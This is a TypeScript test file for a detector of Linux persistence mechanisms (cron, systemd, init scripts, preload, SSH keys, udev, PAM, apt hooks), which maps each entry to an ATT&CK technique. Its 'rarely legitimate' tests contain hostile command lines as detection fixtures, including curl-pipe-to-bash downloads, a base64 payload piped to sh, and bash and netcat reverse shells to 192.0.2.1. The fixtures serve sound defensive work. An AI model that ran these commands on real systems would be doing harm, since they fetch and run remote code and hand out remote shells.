/** Each format: what it starts, what is clean in it, what is malformed. */
import { describe, expect, it } from 'vitest';
import { originOf, placeOf } from '../places.ts';
import { reportOf } from '../report.ts';

/** `line path technique` of what a file at such a path starts. */
function startsOf(path: string, text: string | Buffer): string[] {
  return told(path, text).starts.map(
    ({ line, path: started, technique }) => `${line} ${started} ${technique}`,
  );
}

const odditiesOf = (path: string, text: string): string[] =>
  told(path, text).detections.map(({ name, description }) => `${name}: ${description}`);

function told(path: string, text: string | Buffer) {
  const place = placeOf(path);
  if (place === undefined) throw new Error(`no place: ${path}`);
  const origin = originOf(path);
  const entries = place.parse(Buffer.from(text).toString('latin1'), origin);
  return reportOf(entries, { format: place.format, isShared: false, ...origin });
}

describe('crontabs', () => {
  it('start the command, after the user where there is one', () => {
    const text =
      '# m h dom mon dow user command\nMAILTO=root\n*/5 * * * * root /opt/x --run >/dev/null 2>&1\n';
    expect(startsOf('/etc/crontab', text)).toEqual(['3 /opt/x T1053.003']);
    expect(startsOf('/etc/cron.d/x', '@reboot www-data cd / && nohup /srv/y &')).toEqual([
      '1 /srv/y T1053.003',
    ]);
    expect(startsOf('/var/spool/cron/crontabs/alice', '@daily ~/bin/z\n0 1 * * 1-5\t$HOME/w\n')).toEqual([
      '1 /home/alice/bin/z T1053.003',
      '2 /home/alice/w T1053.003',
    ]);
    expect(startsOf('/etc/anacrontab', 'START_HOURS_RANGE=3-22\n1 5 daily nice /opt/x\n')).toEqual([
      '2 /opt/x T1053.003',
    ]);
  });

  it('end the command at an unescaped percent sign', () => {
    expect(startsOf('/etc/cron.d/x', '* * * * * root /opt/a\\%b%/opt/c')).toEqual(['1 /opt/a%b T1053.003']);
  });

  it('start a shell of their own and preload libraries', () => {
    expect(startsOf('/etc/cron.d/x', 'SHELL=/tmp/sh\nLD_PRELOAD="/tmp/x.so"\nSHELL=/bin/bash\n')).toEqual([
      '1 /tmp/sh T1053.003',
      '2 /tmp/x.so T1574.006',
    ]);
  });

  it('that are clean or malformed start nothing', () => {
    expect(startsOf('/etc/crontab', '# /tmp/x\n\nPATH=/bin:/tmp\n')).toEqual([]);
    expect(startsOf('/etc/crontab', '* * * * *\n@reboot\n@reboot root\n\xff\n=\n* * * * * root')).toEqual([]);
  });
});

describe('systemd units', () => {
  const unit = '/etc/systemd/system/x.service';

  it('start what Exec lines name, whatever their prefixes', () => {
    const text = [
      ...['[Service]', 'ExecStartPre=-/bin/mkdir /run/x', 'ExecStart=@/opt/x name --flag'],
      ...[
        'ExecStartPost=!!"/opt/with blank" \\',
        '  /opt/argument ; /opt/second',
        'ExecStop = /bin/sh -c "/opt/z"',
      ],
    ];
    expect(startsOf(unit, text.join('\n'))).toEqual([
      '3 /opt/x T1543.002',
      '4 /opt/with blank T1543.002',
      '4 /opt/second T1543.002',
      '6 /opt/z T1543.002',
    ]);
  });

  it('undo what came before by an empty value', () => {
    expect(startsOf(unit, 'ExecStart=/opt/a\nExecStart=\nExecStart=/opt/b')).toEqual(['3 /opt/b T1543.002']);
  });

  it('load the libraries of their environment', () => {
    expect(startsOf(unit, 'Environment=A=1 "LD_PRELOAD=/opt/x.so /opt/y.so"')).toEqual([
      '1 /opt/x.so T1574.006',
      '1 /opt/y.so T1574.006',
    ]);
    expect(
      startsOf('/etc/systemd/system.conf', '[Manager]\nDefaultEnvironment=LD_PRELOAD=/opt/x.so'),
    ).toEqual(['2 /opt/x.so T1574.006']);
  });

  it('trigger the unit that they name, or that has their name', () => {
    const timer = '/etc/systemd/system/x.timer';
    expect(startsOf(timer, '[Timer]\nOnBootSec=5\n')).toEqual(['1 /etc/systemd/system/x.service T1053.006']);
    expect(startsOf(timer, '[Timer]\nUnit=y.service\n')).toEqual([
      '2 /etc/systemd/system/y.service T1053.006',
    ]);
    expect(startsOf('/run/systemd/system/x.path', '[Path]\nUnit=y.service')).toEqual([
      '2 /run/systemd/system/y.service T1543.002',
    ]);
    expect(startsOf('/etc/systemd/system/x.socket', '[Socket]\nService=y.service')).toEqual([
      '2 /etc/systemd/system/y.service T1543.002',
    ]);
    expect(startsOf(`${timer}.d/more.conf`, '[Timer]\nUnit=z.service')).toEqual([
      '2 /etc/systemd/system/z.service T1053.006',
    ]);
    expect(startsOf(`${timer}.d/more.conf`, '[Timer]\nOnBootSec=5\n')).toEqual([]);
  });

  it('of a user know the home', () => {
    expect(startsOf('/home/a/.config/systemd/user/x.service', 'ExecStart=%h/x')).toEqual([
      '1 /home/a/x T1543.002',
    ]);
  });

  it('that are clean or malformed start nothing', () => {
    expect(startsOf(unit, '[Unit]\nDescription=/tmp/x\n# ExecStart=/tmp/x\n;ExecStart=/tmp/x\n')).toEqual([]);
    expect(startsOf(unit, '[[\nExecStart\nExecStart="\nExecStart=- \n=\n\\')).toEqual([]);
  });
});

describe('scripts', () => {
  const script = '/etc/init.d/x';

  it('start programs, interpreters their scripts, daemons what they are told', () => {
    const text = [
      ...['#!/bin/sh', 'DAEMON=/opt/daemon', 'case "$1" in', 'start|restart)'],
      ...['start-stop-daemon --start --exec $DAEMON -- -d', 'python3 -u /opt/x.py', '. /opt/lib.sh'],
      ...[';;', 'esac', 'if [ -x /opt/y ]; then sudo -u nobody /opt/y; fi', 'insmod /opt/m.ko'],
    ];
    expect(startsOf(script, text.join('\n'))).toEqual([
      '5 /opt/daemon T1037.004',
      '6 /opt/x.py T1037.004',
      '7 /opt/lib.sh T1037.004',
      '10 /opt/y T1037.004',
      '11 /opt/m.ko T1037.004',
    ]);
  });

  it('start what stands as text: in eval, traps, aliases, prompts and substitutions', () => {
    const text = [
      ...["eval '/opt/a'", 'trap "/opt/b; true" EXIT', "alias sudo='/opt/c'", "PROMPT_COMMAND='/opt/d'"],
      ...['x="$(/opt/e)"', 'y=`/opt/f`', "su - nobody -c '/opt/g'", 'LD_PRELOAD=/opt/h.so ls'],
    ];
    expect(startsOf('/root/.bashrc', text.join('\n'))).toEqual(
      [...'abcdefg']
        .map((name, index) => `${index + 1} /opt/${name} T1546.004`)
        .concat('8 /opt/h.so T1574.006'),
    );
  });

  it.each([
    ['bash -o pipefail -c "/opt/x"', '/opt/x'],
    ['bash -x -o pipefail /opt/x -c y', '/opt/x'],
    ['flock -n /run/lock -c "/opt/x"', '/opt/x'],
    ['flock -n /run/lock /opt/x', '/opt/x'],
    ['runuser -u nobody -- /opt/x', '/opt/x'],
    ['su -s /bin/sh nobody -c "exec /opt/x"', '/opt/x'],
    ['sudo -u nobody nice -n 5 env A=1 /opt/x', '/opt/x'],
    ['busybox nohup /opt/x &', '/opt/x'],
    ['timeout -k 5 10 /opt/x', '/opt/x'],
    ["$'/opt/x' >/dev/null 2>&1", '/opt/x'],
    ['if ! /opt/x; then :; fi', '/opt/x'],
  ])('see through %s', (line, started) => {
    expect(startsOf(script, line)).toEqual([`1 ${started} T1037.004`]);
  });

  it('that are clean or malformed start nothing', () => {
    const clean = '#!/bin/sh\n# /tmp/x\necho "/tmp/x"\nkill 1\n[ -e /tmp/x ] && touch /tmp/y\nX=/tmp/z\n';
    expect(startsOf(script, clean)).toEqual([]);
    expect(startsOf(script, '"\n$(\n`\n\\\n<(\n))))\n|||\n$\n${\n\'')).toEqual([]);
  });

  it('take neither the patterns of a case nor the names of functions for programs', () => {
    expect(startsOf(script, 'case "$DIR" in\n/|/proc|/dev|/dev/.static/dev)\ntrue ;;\nrun() {\n')).toEqual(
      [],
    );
  });
});

describe('the loader', () => {
  it('loads what is listed for every program', () => {
    expect(startsOf('/etc/ld.so.preload', '/opt/a.so:/opt/b.so # why\n\n/opt/c.so')).toEqual([
      '1 /opt/a.so T1574.006',
      '1 /opt/b.so T1574.006',
      '3 /opt/c.so T1574.006',
    ]);
    expect(odditiesOf('/etc/ld.so.preload', '/opt/a.so')).toEqual([
      'preloaded-library: Line 1: Every program of the guest loads /opt/a.so',
    ]);
    expect(startsOf('/etc/environment', 'PATH="/bin"\nexport LD_PRELOAD="/opt/x.so"')).toEqual([
      '2 /opt/x.so T1574.006',
    ]);
  });

  it('loads nothing when that is clean or malformed', () => {
    expect(startsOf('/etc/ld.so.preload', '# nothing\n \t:\n')).toEqual([]);
    expect(
      startsOf('/etc/environment', 'PATH="/usr/bin"\n#LD_PRELOAD=/x.so\nLD_PRELOAD\n=\nLD_PRELOAD='),
    ).toEqual([]);
  });
});

describe('ssh', () => {
  const keys = '/home/a/.ssh/authorized_keys';

  it('runs the command of a key', () => {
    const text = 'no-pty,command="/opt/x \\"--flag\\"",from="10.0.0.1" ssh-ed25519 AAAA me@host\n';
    expect(startsOf(keys, text)).toEqual(['1 /opt/x T1098.004']);
    expect(odditiesOf(keys, text)).toEqual([]);
    expect(odditiesOf(keys, 'environment="LD_PRELOAD=/opt/x.so" ssh-rsa AAAA')).toEqual([
      'key-sets-loader: Line 1: A key loads a library into its sessions: LD_PRELOAD=/opt/x.so',
    ]);
    expect(startsOf('/etc/ssh/sshd_config', 'ForceCommand /opt/x\nauthorizedkeyscommand /opt/y %u')).toEqual([
      '1 /opt/x T1098.004',
      '2 /opt/y T1098.004',
    ]);
  });

  it('runs nothing when that is clean or malformed', () => {
    expect(startsOf(keys, '# command="/tmp/x"\nssh-rsa AAAA command="/tmp/x"\n')).toEqual([]);
    expect(startsOf(keys, 'command="\ncommand=/tmp/x ssh-rsa\n,,,="\n\\"')).toEqual([]);
    expect(startsOf('/etc/ssh/sshd_config', '#ForceCommand /x\nForceCommand\nPermitRootLogin no')).toEqual(
      [],
    );
  });
});

describe('kernel modules', () => {
  it('are named, or have a command run instead', () => {
    expect(startsOf('/etc/modules', '# names\nevil-mod option=1\n')).toEqual(['2 evil_mod T1547.006']);
    expect(startsOf('/etc/modprobe.d/x.conf', 'install usb /opt/x; /sbin/modprobe -i usb')).toEqual([
      '1 /opt/x T1547.006',
      '1 /sbin/modprobe T1547.006',
    ]);
  });

  it('are not, when that is clean or malformed', () => {
    expect(
      startsOf('/etc/modprobe.d/x.conf', 'options x y=/tmp/x\nblacklist z\ninstall usb /bin/true'),
    ).toEqual([]);
    expect(startsOf('/etc/modprobe.d/x.conf', 'install\ninstall usb\n\\')).toEqual([]);
    expect(startsOf('/etc/modules', '; x\n../x\n/tmp/x\n\xff')).toEqual([]);
  });
});

describe('udev rules', () => {
  const rules = '/etc/udev/rules.d/99-x.rules';

  it('run programs, by name from their own directory', () => {
    const text =
      'ACTION=="add", RUN+="/opt/x \\"a\\"", \\\n PROGRAM="helper %k"\nIMPORT{program}="/opt/y", RUN{program}+="/bin/sh -c \'/opt/z\'"';
    expect(startsOf(rules, text)).toEqual([
      '1 /opt/x T1546.017',
      '1 /usr/lib/udev/helper T1546.017',
      '3 /opt/y T1546.017',
      '3 /opt/z T1546.017',
    ]);
  });

  it('that are clean or malformed run nothing', () => {
    expect(
      startsOf(rules, '#RUN+="/tmp/x"\nENV{X}="RUN", IMPORT{builtin}="hwdb", RUN{builtin}+="kmod"'),
    ).toEqual([]);
    expect(startsOf(rules, 'RUN+="\nRUN+=/tmp/x\nRUN+="\\')).toEqual([]);
  });
});

describe('other formats', () => {
  it.each([
    [
      '/etc/xdg/autostart/x.desktop',
      '[Desktop Entry]\nTryExec=/opt/no\nExec=/opt/x %U',
      '3 /opt/x T1547.013',
    ],
    ['/etc/pam.d/sshd', 'auth optional pam_exec.so quiet /opt/x arg', '1 /opt/x T1556.003'],
    ['/etc/pam.d/sshd', '@include x\nauth sufficient /opt/evil.so', '2 /opt/evil.so T1556.003'],
    ['/etc/apt/apt.conf.d/x', 'APT::Update::Pre-Invoke {\n"/opt/x || true";\n};', '2 /opt/x T1546.016'],
    ['/etc/apt/apt.conf.d/x', 'DPkg::Post-Invoke:: "/opt/x";', '1 /opt/x T1546.016'],
    ['/etc/dpkg/dpkg.cfg.d/x', 'pre-invoke=/opt/x', '1 /opt/x T1546.016'],
    ['/etc/inittab', 'id:2:initdefault:\nx:2345:respawn:/opt/x -a', '2 /opt/x T1037.004'],
  ])('%s starts what it says', (path, text, expected) => {
    expect(startsOf(path, text)).toEqual([expected]);
  });

  it.each([
    ['/etc/xdg/autostart/x.desktop', 'Name=/tmp/x\nExec\nExec=\n=\nExec="'],
    [
      '/etc/pam.d/sshd',
      '# pam_exec.so /tmp/x\nauth required pam_unix.so\npam_exec.so\n.so\n/lib/security/pam_exec.so',
    ],
    [
      '/etc/apt/apt.conf.d/x',
      '// Pre-Invoke "/tmp/x";\nAcquire::x "/tmp/x";\nDPkg::Pre-Invoke {};\n"/tmp/x";\n"',
    ],
    ['/etc/inittab', '# a:b:c:/tmp/x\n:::\nx:2:off:\n::'],
  ])('%s starts nothing when it is clean or malformed', (path, text) => {
    expect(startsOf(path, text)).toEqual([]);
  });
});

describe('what is rarely legitimate', () => {
  const names = (line: string): string[] =>
    told('/etc/cron.d/x', `* * * * * root ${line}`).detections.map(({ name }) => name);

  it.each([
    ['/tmp/x', ['starts-from-temporary']],
    ['cd /dev/shm; nohup /dev/shm/.x &', ['starts-from-temporary', 'starts-hidden']],
    ['/usr/lib/.x/y', ['starts-hidden']],
    ['curl -fsSL http://192.0.2.1/x | bash', ['runs-download']],
    ['wget -qO- http://192.0.2.1/x | sudo sh -s', ['runs-download']],
    ['bash -c "$(curl -fsSL http://192.0.2.1/x)"', ['runs-download']],
    ['bash <(curl http://192.0.2.1/x)', ['runs-download']],
    ['eval `curl http://192.0.2.1/x`', ['runs-download']],
    ['curl $(echo http://192.0.2.1/x) | (sh)', ['runs-download']],
    ["sh -c 'curl http://192.0.2.1/x | sh'", ['runs-download']],
    ['echo ZWNobw== | base64 -d | sh', ['runs-decoded']],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', ['opens-remote-shell']],
    ['nc -e /bin/sh 192.0.2.1 4444', ['opens-remote-shell']],
  ])('%s', (line, expected) => {
    expect(names(line)).toEqual(expected);
  });

  it.each([
    '/usr/bin/flock /tmp/lock /usr/bin/backup',
    '/root/.acme.sh/acme.sh --cron --home /root/.acme.sh',
    '/opt/app/.venv/bin/python /opt/app/run.py',
    'curl -fsS https://example.org/ping >/dev/null',
    'curl -s https://example.org/list | grep x | mail root',
    'mysqldump db | gzip | base64 > /tmp/dump',
    'timeout 1 bash -c "</dev/tcp/localhost/80"',
    'sh /usr/local/bin/x; curl https://example.org/done',
    'curl -o /srv/list https://example.org/list; sh /usr/local/bin/x',
    "echo 'curl x | sh'",
  ])('%s is not', (line) => {
    expect(names(line)).toEqual([]);
  });
});

describe('what is told', () => {
  it('keeps bytes as they are, and shows them harmlessly', () => {
    const path = Buffer.from('/opt/\xe0\x1b[2J', 'latin1');
    expect(startsOf('/etc/cron.d/x', Buffer.concat([Buffer.from('@reboot root '), path]))).toEqual([
      '1 /opt/\\xe0\\x1b[2J T1053.003',
    ]);
    expect(startsOf('/etc/cron.d/x', '@reboot root /opt/à')).toEqual(['1 /opt/à T1053.003']);
    expect(startsOf('/home/ü\\xff/.profile', '~/x')).toEqual(['1 /home/ü\\xff/x T1546.004']);
  });

  it('says that a file serves other ends when it starts several things, or some that are not known', () => {
    const isShared = (text: string) => told('/etc/cron.d/x', text).starts.map(({ shared = false }) => shared);
    expect(isShared('@reboot root /opt/x\n@daily root sleep 5; /opt/x >/dev/null')).toEqual([false]);
    expect(isShared('@reboot root /opt/x\n@daily root backup-all')).toEqual([true]);
    expect(isShared('@reboot root /opt/x; /opt/y')).toEqual([true, true]);
  });

  it('is bounded, and says when it is cut', () => {
    const many = (count: number) =>
      told('/etc/cron.d/x', Array.from({ length: count }, (_, at) => `@daily root /tmp/${at}\n`).join(''));
    expect(many(600)).toMatchObject({ isCut: true });
    expect(many(600).starts).toHaveLength(500);
    expect(many(100).detections).toHaveLength(50);
    expect(many(100).isCut).toBe(false);
  });
});
